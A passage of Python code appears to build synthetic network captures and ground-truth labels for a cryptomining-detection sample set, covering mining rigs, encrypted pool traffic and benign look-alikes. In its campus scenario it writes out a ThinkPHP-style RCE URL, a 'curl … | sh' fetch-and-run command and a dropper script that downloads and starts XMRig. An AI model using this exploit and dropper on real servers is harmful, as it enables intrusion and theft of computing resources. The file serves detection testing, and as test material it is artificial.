                login="gridpower.s17pro-07", agent="bmminer/2.0.0", pool="ss.antpool.com", pool_evidence=["dns"],
                true_hashrate=H, unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["soe"]])
    expect[asic.ip] = ("Example State Grid Riverside Power Supply Company", "soe")

    # -- c. the government web server: a busy HTTPS/HTTP server all along ...
    bot_wallet = monero_address("minesweep sample campus botnet wallet")
    gov_in = in_link(gov_web.ip, V["gov"])
    visitors = [Host(f"198.51.100.{101 + k}", 50 + k % 9, 0x8000 + 0x100 * k, 1026) for k in range(14)] + \
               [Host(f"172.24.{30 + k}.{11 + 7 * k}", 120 + k % 5, 0x9000 + 0x100 * k, 1026) for k in range(8)]
    inbound: list[dict[str, Any]] = []
    for k in range(30):
        v = visitors[k % len(visitors)]
        t = 3.0 + k * (T - 60) / 30 + rng.uniform(0, 60)
        cport = 49200 + 37 * k
        if k % 5 == 4:
            f = fb.flow(0, gov_in, v, cport, gov_web, 80, random.Random(800 + k), 0.03, neg_redirect(t + 0.04, "www.city.gov.example", ts0),
                        t, t + 1.5)
            fb.negative(f, "http-inbound", "visitor on the government web server's port 80, redirected to HTTPS")
        else:
            f = fb.flow(0, gov_in, v, cport, gov_web, 443, random.Random(800 + k), 0.03,
                        neg_tls(rng, "www.city.gov.example", t + 0.04, 0.03, rng.randrange(2, 6)), t, t + 30.0)
            fb.negative(f, "https-inbound", "visitor on the government web server (TLS, SNI www.city.gov.example)")
        inbound.append(fb.negatives[-1])
    # ... swept by a scanner in a hosting block, then exploited through a ThinkPHP-style RCE URL ...
    targets = [(f"10.10.3.{h}", p) for h in range(1, 255) for p in (80, 443, 7001)]
    rng.shuffle(targets)
    live = {"10.10.3.1": Host("10.10.3.1", 255, 0x0001, 0), "10.10.3.21": Host("10.10.3.21", 64, 0x2500, 0),
            "10.10.3.25": Host("10.10.3.25", 128, 0x2600, 0), gov_web.ip: gov_web}
    scan_in = syn_scan(cap, b, 0, lambda ip: in_link(ip, V["gov"]), rng, scanner_raw, 61722, targets, 300.0, 28.0,
                       {(gov_web.ip, 80): gov_web, (gov_web.ip, 443): gov_web, ("10.10.3.21", 443): live["10.10.3.21"]},
                       live, 0.052)
    scan_in.update({"direction": "inbound", "targets": "10.10.3.0/24", "hits_hosts": [gov_web.ip]})
    fetch_cmd = "curl -s http://203.0.113.77/x.sh | sh"
    exploit_path = ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
                    "&vars[1][]=" + fetch_cmd.replace(" ", "%20").replace("|", "%7C"))
    t_x = 410.0
    req = http_get(exploit_path, gov_web.ip, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                   "Gecko) Chrome/78.0.3904.108 Safari/537.36", "Connection: close\r\n")
    resp = http_response("200 OK", ts0 + t_x + 1.2, "text/html; charset=utf-8", b"", "nginx/1.16.1",
                         extra="X-Powered-By: PHP/7.2.24\r\nConnection: close\r\n")
    f = fb.flow(0, gov_in, scanner, 40722, gov_web, 80, random.Random(81), 0.052,
                [Msg(t_x + 0.06, 0, req), Msg(t_x + 1.2, 1, resp)], t_x, t_x + 1.3, close_side=1)
    fb.negative(f, "http-exploit", f"inbound exploit request from the scanner: RCE running '{fetch_cmd}'")
    exploit = fb.negatives[-1]
    # ... so the server fetches a shell script and an ELF and starts XMRig on a Monero pool's port 80
    script = ("#!/bin/sh\n"
              "# minesweep sample dropper (inert: documentation addresses, no persistence)\n"
              "cd /tmp || cd /var/tmp\n"
              "curl -s -o .xmrig http://203.0.113.77/xmrig || wget -q -O .xmrig http://203.0.113.77/xmrig\n"
              "chmod +x .xmrig\n"
              f"./.xmrig -o mine.c3pool.com:80 -u {bot_wallet} -p x -k --donate-level 1 -B >/dev/null 2>&1\n").encode()
    gov_out = out_link(gov_web.ip, V["gov"])
    downloads: list[dict[str, Any]] = []
    for k, (t_d, path, ctype, body) in enumerate([(411.4, "/x.sh", "text/x-sh", script),
                                                  (412.9, "/xmrig", "application/octet-stream", elf_body(rng, 40960))]):
        req = http_get(path, dropper.ip, "curl/7.29.0")
        resp = http_response("200 OK", ts0 + t_d, ctype, body, "SimpleHTTP/0.6 Python/3.8.10", "HTTP/1.0",
                             f"Last-Modified: {http_date(ts0 - 86400 * 3)}\r\n")
        f = fb.flow(0, gov_out, gov_web, 41810 + 2 * k, dropper, 80, random.Random(82 + k), 0.061,
                    [Msg(t_d + 0.062, 0, req), Msg(t_d + 0.13, 1, resp)], t_d, t_d + 0.5, close_side=1)
        fb.negative(f, "http-download-script" if k == 0 else "http-download-elf",
                    f"the government server downloads {path} ({ctype}, {len(body)} bytes)")
        downloads.append({**fb.negatives[-1], "path": path, "content_type": ctype, "body_bytes": len(body),
                          "body_prefix": body[:16].decode("latin-1")})
    dns(gov_out, 418.0, gov_web, gov_res, 52931, "mine.c3pool.com", "A", [c3pool.ip])
    H = 5200.0
    msgs, log = sim_xmrig(rng, start=418.2, end=2688.0, hashrate=H, diffs=[(0, 120000)], login=bot_wallet,
                          agent=XMRIG_BOT_AGENT, algos=XMRIG6_ALGOS, algo="rx/0", rigid=None, escape_slashes=False,
                          keepalive=60.0, rtt=0.048, height0=2578120, epoch0=ts0)
    f = fb.flow(0, gov_out, gov_web, 41816, c3pool, 80, random.Random(84), 0.048, msgs, 418.1, 2688.5, log=log)
    add_session(gov_web.ip, f, log, dialect="monero", coin="XMR", algorithm="rx/0", worker=None, wallet=bot_wallet,
                login=bot_wallet, agent=XMRIG_BOT_AGENT, pool="mine.c3pool.com", pool_evidence=["dns"], true_hashrate=H,
                unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["gov"]])
    expect[gov_web.ip] = ("Example City Government Data Centre", "government")

    # -- d. the same wallet on a hospital server that scans outward (SSH, Redis, Docker API)
    hosp_out = out_link(hosp.ip, V["hosp"])
    dns(hosp_out, 39.6, hosp, hosp_res, 47211, "mine.c3pool.com", "A", [c3pool.ip])
    H = 2400.0
    msgs, log = sim_xmrig(rng, start=40.2, end=2690.0, hashrate=H, diffs=[(0, 60000)], login=bot_wallet,
                          agent=XMRIG_BOT_AGENT, algos=XMRIG6_ALGOS, algo="rx/0", rigid=None, escape_slashes=False,
                          keepalive=60.0, rtt=0.047, height0=2577975, epoch0=ts0)
    f = fb.flow(0, hosp_out, hosp, 36118, c3pool, 443, random.Random(85), 0.047, msgs, 40.1, 2690.5, log=log)
    add_session(hosp.ip, f, log, dialect="monero", coin="XMR", algorithm="rx/0", worker=None, wallet=bot_wallet,
                login=bot_wallet, agent=XMRIG_BOT_AGENT, pool="mine.c3pool.com", pool_evidence=["dns"], true_hashrate=H,
                unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["hosp"]],
                notes="plaintext XMRig stratum on port 443 (no TLS)")
    expect[hosp.ip] = ("Example First People's Hospital", "healthcare")
    scans_out = []

    def hosp_scan_link(ip: str) -> LinkFn:  # same-VLAN targets are reached directly, others via the gateway
        if ip.startswith("10.50."):
            return ether_link(host_mac(hosp.ip), host_mac(ip), ((0x8100, V["hosp"]),))
        return hosp_out

    ext_live = {"198.51.100.37": Host("198.51.100.37", 52, 0x3100, 0), "203.0.113.140": Host("203.0.113.140", 49, 0x3200, 0),
                "10.50.8.40": Host("10.50.8.40", 64, 0x3300, 0)}
    ext_open = {("198.51.100.37", 22): ext_live["198.51.100.37"], ("10.50.8.40", 6379): ext_live["10.50.8.40"]}
    for n, (t_s, sport) in enumerate([(600.0, 39811), (1500.0, 52266), (2300.0, 44019)]):
        pool_ips = [f"198.51.100.{h}" for h in range(1, 255)] + [f"203.0.113.{h}" for h in range(1, 255)] + \
                   [f"10.50.{rng.randrange(0, 32)}.{rng.randrange(1, 255)}" for _ in range(60)]
        addrs = rng.sample(pool_ips, 70) + (["198.51.100.37", "10.50.8.40", "203.0.113.140"] if n == 0 else [])
        tg = [(ip, p) for ip in addrs for p in (22, 6379, 2375)]
        rng.shuffle(tg)
        s = syn_scan(cap, b, 0, hosp_scan_link, rng, Host(hosp.ip, 64, 0x5000 + n * 0x1000, 1024), sport, tg, t_s,
                     9.0, ext_open, ext_live, 0.035)
        s.update({"direction": "outbound"})
        scans_out.append(s)

    # -- e. a home GPU miner on residential IPv6, eth-proxy to ethermine, its own wallet
    home_link = out_link(home6.ip, V["res"])
    dns(home_link, 99.7, home6, isp_res6, 53112, "eu1.ethermine.org", "AAAA", [ethermine6.ip])
    home_wallet = eth_address("minesweep sample campus home rtx3060ti")
    H = 61e6
    msgs, log = sim_ethproxy(rng, start=100.2, end=1300.0, hashrate=H, share_work=1e9, login=home_wallet, rtt=0.036)
    f = fb.flow(0, home_link, home6, 51034, ethermine6, 4444, random.Random(86), 0.036, msgs, 100.1, 1300.5, log=log)
    add_session(home6.ip, f, log, dialect="ethproxy", coin="ETH", algorithm="ethash", worker=None, wallet=home_wallet,
                login=home_wallet, agent=None, pool="eu1.ethermine.org", pool_evidence=["dns"], worker_field="eth1.0",
                true_hashrate=H, unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["res"]])
    expect[home6.ip] = ("Example Telecom Riverside Broadband", "residential")

    # -- f. benign hosts of several units
    univ_in = in_link(univ_web.ip, V["univ"])
    for k in range(12):
        v = visitors[(k * 5 + 3) % len(visitors)]
        t = 20.0 + k * 215 + rng.uniform(0, 60)
        f = fb.flow(0, univ_in, v, 50600 + 41 * k, univ_web, 443, random.Random(900 + k), 0.028,
                    neg_tls(rng, "www.ut.example.edu", t + 0.04, 0.028, rng.randrange(2, 7)), t, t + 25.0)
        fb.negative(f, "https-inbound", "visitor on the university web server (TLS, SNI www.ut.example.edu)")
    browsing = [(gov_pc, "gov", gov_res, [("www.wikipedia.org", 200.0), ("login.microsoftonline.com", 1210.0)]),
                (res_pc, "research", res_res, [("www.who.int", 505.0), ("www.bbc.co.uk", 1733.0)]),
                (hosp_pc, "hosp", hosp_res, [("www.who.int", 902.0)]),
                (ent_pc, "ent", ent_res, [("login.microsoftonline.com", 707.0), ("www.wikipedia.org", 2101.0)])]
    for j, (pc, unit_key, resolver, visits) in enumerate(browsing):
        link = out_link(pc.ip, V[unit_key])
        for k, (sni, t) in enumerate(visits):
            dns(link, t - 0.05, pc, resolver, 55000 + 100 * j + k, sni, "A", [sites[sni].ip])
            f = fb.flow(0, link, pc, 60100 + 100 * j + k, sites[sni], 443, random.Random(950 + 10 * j + k), 0.031,
                        neg_https_visits(rng, t + 0.04, sni, 0.031, rng.randrange(2, 5)), t, t + 90.0)
            fb.negative(f, "tls", f"browser on {sni} (TLS 1.3)")
    link = out_link(ent_pc.ip, V["ent"])
    dns(link, 1499.9, ent_pc, ent_res, 55410, "news.example.com", "A", [sites["news.example.com"].ip])
    f = fb.flow(0, link, ent_pc, 60190, sites["news.example.com"], 80, random.Random(970), 0.022,
                neg_http_get(rng, "news.example.com", 1500.05) + neg_http_get(rng, "news.example.com", 1512.4, "/world"),
                1500.0, 1530.0)
    fb.negative(f, "http", "browser GET on a news site")
    bodies = []
    for i in range(30):
        rid = 4100 + i
        req = {"jsonrpc": "2.0", "method": "call", "params": {"model": "stock.picking", "method": "search_read",
               "args": [[["state", "=", "assigned"]]], "kwargs": {"fields": ["name", "scheduled_date"], "limit": 40}},
               "id": rid}
        res = {"jsonrpc": "2.0", "id": rid, "result": [{"id": 900 + i * 3 + j, "name": f"WH/OUT/{10450 + i * 3 + j:05d}",
                                                        "scheduled_date": "2022-03-15 09:00:00"} for j in range(3)]}
        bodies.append((jdump(req).encode(), jdump(res).encode()))
    erp = neg_jsonrpc_http(rng, 60.0, "10.40.1.8:8069", "/web/dataset/call_kw/stock.picking/search_read", bodies,
                           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                           "Chrome/99.0.4844.51 Safari/537.36", (60, 110), server_hdr="Server: Werkzeug/0.16.1 Python/3.8.10\r\n")
    f = fb.flow(0, ether_link(host_mac(erp_c.ip), host_mac(erp_s.ip), ((0x8100, V["soe"]),)), erp_c, 61410, erp_s, 8069,
                random.Random(971), 0.0009, erp, 59.95, 2640.0)
    fb.negative(f, "jsonrpc-http", "Odoo ERP JSON-RPC (method 'call', params model/method/args) over HTTP 8069")
    wl = out_link(wallet_pc.ip, V["res"])
    dns(wl, 29.5, wallet_pc, isp_res4, 58810, "electrum.example.net", "A", [electrumx.ip])
    f = fb.flow(0, wl, wallet_pc, 58812, electrumx, 50001, random.Random(972), 0.044, neg_electrum(rng, 30.1, 2620.0, 0.044),
                30.0, 2625.0)
    fb.negative(f, "jsonrpc-electrum", "Electrum wallet on an ElectrumX server: line-delimited JSON-RPC with "
                                       "subscriptions and server notifications over TCP 50001 (not mining)")

    # -- the campus section of truth.json
    for ip, (unit, category) in expect.items():
        cidr, r_unit, r_cat = registry_lookup(ip)
        if (r_unit, r_cat) != (unit, category):
            raise RuntimeError(f"registry gives {ip} to {r_unit}/{r_cat}, the sample means {unit}/{category}")

    def host(ip: str, verdict: str, signals: list[str], role: str, **kw: Any) -> dict[str, Any]:
        cidr, unit, category = registry_lookup(ip)
        if not set(signals) <= set(SIGNALS):
            raise RuntimeError(f"unknown signal in {signals}")
        return {"ip": ip, "unit": unit, "category": category, "public_institution": category in PUBLIC_CATEGORIES,
                "registry_cidr": cidr, "verdict": verdict, "signals": signals, "role": role,
                "sessions": sess_idx[ip], **kw}

    farm = [r.ip for r in rigs]
    rig_signals = ["pool_dns", "rig_software", "gpu_or_asic_algorithm", "named_workers", "farm_same_account", "rig_hashrate"]
    hosts = [host(r.ip, "institution_misuse", rig_signals, f"GPU rig {spec[0]} ({spec[1]}, {spec[2] / 1e6:.0f} MH/s ethash)")
             for r, spec in zip(rigs, rig_specs)]
    hosts.append(host(asic.ip, "institution_misuse",
                      ["pool_dns", "rig_software", "gpu_or_asic_algorithm", "named_workers", "rig_hashrate"],
                      "Antminer S17 Pro (bmminer, SHA-256d, 53 TH/s) on AntPool, worker s17pro-07"))
    hosts.append(host(gov_web.ip, "compromised",
                      ["inbound_server", "scanned_into", "fetched_script", "fetched_elf", "pool_dns", "disguised_port",
                       "xmrig_agent", "cpu_algorithm", "shared_wallet_cross_unit"],
                      "government web server hijacked: scanned, exploited, downloads x.sh and an ELF, XMRig rx/0 to "
                      "mine.c3pool.com on port 80",
                      inbound_connections=len(inbound), exploit=exploit, downloads=downloads, disguised_port=80))
    hosts.append(host(hosp.ip, "compromised",
                      ["outbound_scan", "pool_dns", "disguised_port", "xmrig_agent", "cpu_algorithm",
                       "shared_wallet_cross_unit"],
                      "hospital server with the government server's wallet, XMRig rx/0 plaintext on port 443, "
                      "SYN-scanning ports 22/6379/2375", disguised_port=443))
    hosts.append(host(home6.ip, "private", ["pool_dns", "gpu_or_asic_algorithm"],
                      "home GPU miner (one RTX 3060 Ti class card, 61 MH/s) on residential IPv6, own wallet"))
    benign = [{"ip": h.ip, "unit": registry_lookup(h.ip)[1], "category": registry_lookup(h.ip)[2], "what": what}
              for h, what in [(univ_web, "university web server with inbound HTTPS"), (gov_pc, "office PC browsing"),
                              (res_pc, "researcher's PC browsing"), (hosp_pc, "hospital PC browsing"),
                              (ent_pc, "office PC browsing (HTTPS and HTTP)"), (erp_c, "Odoo ERP JSON-RPC client"),
                              (erp_s, "Odoo ERP server"), (wallet_pc, "Electrum wallet (JSON-RPC over TCP)")]]
    reg = registry_csv()
    fb.extra_files["campus-registry.csv"] = reg
    fb.sections["campus"] = {
        "file": cap.name, "registry": "campus-registry.csv", "registry_sha256": hashlib.sha256(reg).hexdigest(),
        "registry_rows": len(CAMPUS_REGISTRY), "window_seconds": T,
        "public_categories": PUBLIC_CATEGORIES, "verdicts": VERDICTS, "signal_vocabulary": SIGNALS,
        "verdict_rule": "institution_misuse: a public-institution host mining deliberately (rig software, GPU/ASIC "
                        "algorithm at rig-level hashrate, named workers, several hosts on one account); compromised: "
                        "signs of intrusion (scanned/exploited, fetched script/ELF, outbound scanning, XMRig on a CPU "
                        "algorithm over a disguised port, one wallet across unrelated units); private: a non-public "
                        "unit mining deliberately",
        "hosts": hosts,
        "accounts": [{"pool": "eth.2miners.com", "login_prefix": farm_wallet, "workers": ["rig01", "rig02", "rig03"],
                      "hosts": farm}],
        "shared_wallets": [{"wallet": bot_wallet, "coin": "XMR", "hosts": [gov_web.ip, hosp.ip],
                            "units": [registry_lookup(gov_web.ip)[1], registry_lookup(hosp.ip)[1]]}],
        "scans": [scan_in, *scans_out],
        "benign_hosts": benign,
    }
    return fb


# ----------------------------------------------------------------------------------------------
# encrypted and evasive mining, with look-alikes that must stay unflagged


def file_encrypted() -> FileBuilder:
    cap = Capture("encrypted-evasive.pcap", "pcap", [Interface(1, "eth0")])
    fb = FileBuilder(cap, epoch(2022, 8, 10, 9, 0, 0),
                     "mining nobody can read: XMRig over TLS 1.2 to pool.supportxmr.com:443 (SNI and certificate "
                     "name the pool), lolMiner eth-proxy over TLS 1.3 to eth.2miners.com:12020, XMRig over TLS 1.3 "
                     "to an IP literal on :14433 (no SNI; an earlier DNS answer for xmr-eu1.nanopool.org maps the "
                     "IP), Stratum V2 (Noise NX: 64 -> 234 bytes, then encrypted frames) on :34254; look-alikes: "
                     "HTTPS browsing, a TLS chat websocket, a bot polling api.binance.com, ordinary DNS",
                     ["pcap-le-us", "ethernet", "tls1.2", "tls1.3", "sni", "certificate", "no-sni", "dns-then-tls",
                      "stratum-v2", "port-443", "port-12020", "port-14433", "port-34254", "websocket-over-tls"])
    rng = random.Random(8008)
    b = fb.base_ns
    gw = "00:1c:73:8e:00:01"

    def link(ip: str) -> LinkFn:
        return ether_link(host_mac(ip), gw)

    resolver = Host("192.168.50.1", 64, 0x0010, 0)
    xmr_tls = Host("192.168.50.23", 64, 0x1100, 502)
    lol = Host("192.168.50.41", 64, 0x1200, 502)
    xmr_ip = Host("192.168.50.57", 128, 0x1300, 1026)
    s19 = Host("192.168.50.88", 64, 0x1400, 1024)
    desk = Host("192.168.50.10", 128, 0x1500, 1026)
    bot = Host("192.168.50.12", 64, 0x1600, 502)
    supportxmr = Host("192.0.2.141", 51, 0x2100, 501)
    twominers = Host("192.0.2.120", 50, 0x2200, 501)
    nanopool = Host("198.51.100.214", 49, 0x2300, 501)
    sv2pool = Host("203.0.113.34", 48, 0x2400, 501)
    chat = Host("203.0.113.150", 55, 0x2500, 1040)
    binance = Host("203.0.113.200", 52, 0x2600, 1040)
    sites = {"www.wikipedia.org": Host("198.51.100.21", 55, 0x2700, 1040),
             "github.com": Host("198.51.100.113", 54, 0x2800, 1040),
             "docs.python.org": Host("198.51.100.151", 56, 0x2900, 1040),
             "www.example.com": Host("198.51.100.34", 54, 0x2A00, 1040)}
    flows: list[dict[str, Any]] = []
    dns_by_name: dict[str, dict[str, Any]] = {}

    def dns(client: Host, t: float, port: int, name: str, ip: str) -> None:
        d = dns_exchange(cap, b, 0, link(client.ip), t, client, resolver, port, rng.getrandbits(16), name, "A", [ip])
        fb.negatives.append(d)
        dns_by_name[name] = d

    def record(f: Flow, name: str, confidence: str, identified_by: list[str], *, mining: bool, transport: str,
               sni: str | None, dns_name: str | None, log: SessionLog | None = None,
               hidden: dict[str, Any] | None = None, **kw: Any) -> dict[str, Any]:
        """Add a flow to the section; ``log`` + ``hidden`` (truth_session fields) describe what TLS/SV2 hide."""
        c, s = f.hosts
        entry: dict[str, Any] = {"name": name, "client": c.ip, "client_port": f.ports[0], "server": s.ip,
                                 "server_port": f.ports[1], "proto": "tcp", "transport": transport, "sni": sni,
                                 "dns_name": dns_name, "mining": mining, "expected_confidence": confidence,
                                 "identified_by": identified_by, **kw,
                                 "first_ts": f.first_ts / NS if f.first_ts is not None else None,
                                 "last_ts": f.last_ts / NS if f.last_ts is not None else None, "packets": f.packets}
        if log is not None and hidden is not None:
            full = truth_session(f, log, b, **hidden)
            entry["hidden"] = {k: full[k] for k in ("dialect", "coin", "algorithm", "agent", "login", "pool",
                                                    "true_hashrate", "unit", "shares_submitted", "accepted",
                                                    "rejected", "accepted_work", "submitted_work", "first_share_ts",
                                                    "last_share_ts", "difficulty_history")}
            entry["hidden"].update({k: v for k, v in full.items() if k.startswith("sv2_")})
        flows.append(entry)
        return entry

    # -- 1. XMRig over TLS 1.2 to pool.supportxmr.com:443: SNI, certificate and DNS all name the pool
    dns(xmr_tls, 2.0, 43311, "pool.supportxmr.com", supportxmr.ip)
    chain = cert_chain(rng, "pool.supportxmr.com", ["pool.supportxmr.com", "supportxmr.com"], "letsencrypt", fb.epoch0)
    hs, t = tls_session(rng, 2.12, 0.061, client_hello(rng, "pool.supportxmr.com", OPENSSL_CIPHERS, OPENSSL_EXTS), False, chain)
    agent = "XMRig/6.18.0 (Linux x86_64) libuv/1.44.1 gcc/9.3.0"
    wallet = monero_address("minesweep sample encrypted xmrig tls")
    H = 14500.0
    plain, log = sim_xmrig(rng, start=t + 0.01, end=1380.0, hashrate=H, diffs=[(0, 100000)], login=wallet, agent=agent,
                           algos=XMRIG6_ALGOS, algo="rx/0", rigid="ws-23", escape_slashes=False, keepalive=60.0,
                           rtt=0.061, height0=2686010, epoch0=fb.epoch0, job_interval=(30.0, 60.0))
    f = fb.flow(0, link(xmr_tls.ip), xmr_tls, 45550, supportxmr, 443, random.Random(101), 0.061,
                hs + tls_wrap(rng, plain, False), 2.05, 1380.5, log=log)
    record(f, "xmrig-tls-pool-sni", "strong", ["sni-pool-domain", "certificate-pool-domain", "dns-answer-pool-domain"],
           mining=True, transport="tls1.2", sni="pool.supportxmr.com", dns_name="pool.supportxmr.com", log=log,
           certificate_names=["pool.supportxmr.com", "supportxmr.com"], cipher="ECDHE-RSA-AES256-GCM-SHA384",
           rhythm="client submit records every ~7 s (Poisson), keepalived every 60 s when idle, server job records "
                  "every 30-60 s",
           hidden={"dialect": "monero", "coin": "XMR", "algorithm": "rx/0", "agent": agent, "login": wallet,
                   "pool": "pool.supportxmr.com", "true_hashrate": H, "unit": "H/s"})

    # -- 2. lolMiner eth-proxy over TLS 1.3 on a non-standard port
    dns(lol, 5.0, 52201, "eth.2miners.com", twominers.ip)
    hs, t = tls_session(rng, 5.1, 0.044, client_hello(rng, "eth.2miners.com", OPENSSL_CIPHERS, OPENSSL_EXTS), True,
                        cert_bytes=2650)
    eth_wallet = eth_address("minesweep sample encrypted lolminer")
    H = 124e6
    plain, log = sim_ethproxy(rng, start=t + 0.01, end=725.0, hashrate=H, share_work=4e9, login=eth_wallet + ".tls01",
                              rtt=0.044)
    f = fb.flow(0, link(lol.ip), lol, 50991, twominers, 12020, random.Random(102), 0.044, hs + tls_wrap(rng, plain, True),
                5.05, 725.5, log=log)
    record(f, "ethproxy-tls-nonstandard-port", "strong", ["sni-pool-domain", "dns-answer-pool-domain"], mining=True,
           transport="tls1.3", sni="eth.2miners.com", dns_name="eth.2miners.com", log=log,
           port_note="2Miners' documented TLS port for ETH is 12020 (plaintext 2020)",
           rhythm="client getWork records every 4-6 s, hashrate report every ~30 s, server block pushes every ~13 s",
           hidden={"dialect": "ethproxy", "coin": "ETH", "algorithm": "ethash", "agent": None,
                   "login": eth_wallet + ".tls01", "pool": "eth.2miners.com", "true_hashrate": H, "unit": "H/s"})

    # -- 3. XMRig over TLS 1.3 to an IP literal (no SNI); the IP came from an earlier DNS answer
    dns(xmr_ip, 8.0, 61022, "xmr-eu1.nanopool.org", nanopool.ip)
    hs, t = tls_session(rng, 47.3, 0.039, client_hello(rng, None, OPENSSL_CIPHERS, OPENSSL_EXTS), True, cert_bytes=2500)
    wallet3 = monero_address("minesweep sample encrypted xmrig ip literal")
    agent3 = "XMRig/6.18.0 (Windows NT 10.0; Win64; x64) libuv/1.44.1 msvc/2019"
    H = 4100.0
    plain, log = sim_xmrig(rng, start=t + 0.01, end=1420.0, hashrate=H, diffs=[(0, 30000)], login=wallet3 + ".pc57",
                           agent=agent3, algos=XMRIG6_ALGOS, algo="rx/0", rigid=None, escape_slashes=False,
                           keepalive=60.0, rtt=0.039, height0=2686012, epoch0=fb.epoch0)
    f = fb.flow(0, link(xmr_ip.ip), xmr_ip, 51877, nanopool, 14433, random.Random(103), 0.039,
                hs + tls_wrap(rng, plain, True), 47.25, 1420.5, log=log)
    record(f, "xmrig-tls-ip-literal-dns-mapped", "strong", ["dns-answer-pool-domain"], mining=True, transport="tls1.3",
           sni=None, dns_name="xmr-eu1.nanopool.org", log=log, dns_ts=dns_by_name["xmr-eu1.nanopool.org"]["ts"],
           port_note="nanopool's XMR TLS port 14433",
           hidden={"dialect": "monero", "coin": "XMR", "algorithm": "rx/0", "agent": agent3, "login": wallet3 + ".pc57",
                   "pool": "xmr-eu1.nanopool.org", "true_hashrate": H, "unit": "H/s"})

    # -- 4. Stratum V2 from an Antminer S19 (Braiins OS) on the SRI default port 34254
    H = 95e12
    msgs, log = sim_sv2(rng, start=11.2, end=1440.0, hashrate=H, share_interval=6.0, user="minesweepdemo.s19-88",
                        endpoint=(sv2pool.ip, 34254), device=("Bitmain", "Antminer S19", "Braiins OS 22.08.1"), rtt=0.052)
    f = fb.flow(0, link(s19.ip), s19, 40112, sv2pool, 34254, random.Random(104), 0.052, msgs, 11.1, 1440.5, log=log)
    record(f, "stratum-v2", "strong", ["sv2-noise-handshake-sizes", "sv2-setup-connection-sizes"], mining=True,
           transport="sv2", sni=None, dns_name=None, log=log, handshake_sizes=[SV2_ACT1, SV2_ACT2],
           setup_sizes=[log.extra["sv2_setup_connection_bytes"], 22 + 6 + 16],
           rhythm="SubmitSharesStandard frames (62 bytes) every ~6 s, NewMiningJob every 20-40 s",
           hidden={"dialect": "sv2", "coin": "BTC", "algorithm": "sha256d", "agent": None,
                   "login": "minesweepdemo.s19-88", "pool": None, "true_hashrate": H, "unit": "H/s"})

    # -- look-alikes: browsing, a TLS chat websocket, an exchange API bot, DNS
    for k, (sni, t) in enumerate([("www.wikipedia.org", 30.0), ("github.com", 250.0), ("docs.python.org", 610.0)]):
        dns(desk, t - 0.05, 57000 + k, sni, sites[sni].ip)
        f = fb.flow(0, link(desk.ip), desk, 62010 + k, sites[sni], 443, random.Random(110 + k), 0.029,
                    neg_https_visits(rng, t + 0.04, sni, 0.029, rng.randrange(3, 6)), t, t + 95.0)
        fb.negative(f, "tls", f"browser on {sni} (TLS 1.3)")
        record(f, f"https-{sni}", "none", [], mining=False, transport="tls1.3", sni=sni, dns_name=sni)
    dns(desk, 899.95, 57010, "www.example.com", sites["www.example.com"].ip)
    chain = cert_chain(rng, "www.example.org", ["www.example.org", "example.com", "www.example.com", "example.org"],
                       "digicert", fb.epoch0)
    hs, t = tls_session(rng, 900.04, 0.027, client_hello(rng, "www.example.com", FIREFOX_CIPHERS, FIREFOX_EXTS,
                                                         ["h2", "http/1.1"]), False, chain)
    for _ in range(3):
        hs.append(Msg(t, 0, tls_appdata_for(rng, rng.randrange(350, 500), False)))
        t += 0.04
        hs.append(Msg(t, 1, tls_appdata_for(rng, rng.randrange(1200, 1600), False)))
        t += rng.uniform(2, 6)
    f = fb.flow(0, link(desk.ip), desk, 62020, sites["www.example.com"], 443, random.Random(114), 0.027, hs, 900.0, t + 10)
    fb.negative(f, "tls", "browser on www.example.com (TLS 1.2, DigiCert certificate)")
    record(f, "https-www.example.com-tls12", "none", [], mining=False, transport="tls1.2", sni="www.example.com",
           dns_name="www.example.com", certificate_names=["www.example.org", "example.com", "www.example.com", "example.org"])
    # chat: a websocket over TLS held open for the whole capture, pings every 25 s, messages at random
    dns(desk, 3.0, 57020, "chat.example.org", chat.ip)
    hs, t = tls_session(rng, 3.1, 0.033, client_hello(rng, "chat.example.org", FIREFOX_CIPHERS, FIREFOX_EXTS,
                                                      ["http/1.1"]), True, cert_bytes=2900, tickets=2)
    plain = neg_chat_ws(rng, t + 0.05, 1460.0, "chat.example.org")
    f = fb.flow(0, link(desk.ip), desk, 62030, chat, 443, random.Random(115), 0.033, hs + tls_wrap(rng, plain, True),
                3.05, 1470.0)
    fb.negative(f, "websocket-chat-tls", "chat websocket over TLS 1.3 (chat.example.org), pings every 25 s")
    record(f, "chat-websocket-tls", "none", [], mining=False, transport="tls1.3", sni="chat.example.org",
           dns_name="chat.example.org", rhythm="server ping / client pong every 25 s, messages every 8-70 s")
    # a trading bot polling the exchange's REST API every ~5 s on one keep-alive connection
    dns(bot, 15.0, 44120, "api.binance.com", binance.ip)
    hs, t = tls_session(rng, 15.12, 0.058, client_hello(rng, "api.binance.com", OPENSSL_CIPHERS, PYTHON_EXTS,
                                                       ["http/1.1"]), True, cert_bytes=3400, tickets=2)
    t += 0.01
    plain = []
    while t < 1040.0:
        sym = rng.choice(["BTCUSDT", "ETHUSDT", "XMRUSDT"])
        req = http_get(f"/api/v3/ticker/price?symbol={sym}", "api.binance.com", "python-requests/2.28.1",
                       "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n")
        body = jdump({"symbol": sym, "price": f"{rng.uniform(100, 25000):.8f}"}).encode()
        resp = (f"HTTP/1.1 200 OK\r\nContent-Type: application/json;charset=UTF-8\r\nContent-Length: {len(body)}\r\n"
                "Connection: keep-alive\r\nx-mbx-uuid: " + "-".join(hx(rng, n) for n in (4, 2, 2, 2, 6))
                + f"\r\nx-mbx-used-weight: {rng.randrange(1, 40)}\r\nx-mbx-used-weight-1m: {rng.randrange(1, 40)}\r\n"
                "Strict-Transport-Security: max-age=31536000; includeSubdomains\r\n\r\n").encode() + body
        plain.append(Msg(t, 0, req))
        plain.append(Msg(t + 0.058 + rng.uniform(0.003, 0.02), 1, resp))
        t += rng.uniform(4.0, 6.0)
    f = fb.flow(0, link(bot.ip), bot, 38844, binance, 443, random.Random(116), 0.058, hs + tls_wrap(rng, plain, True),
                15.05, 1045.0)
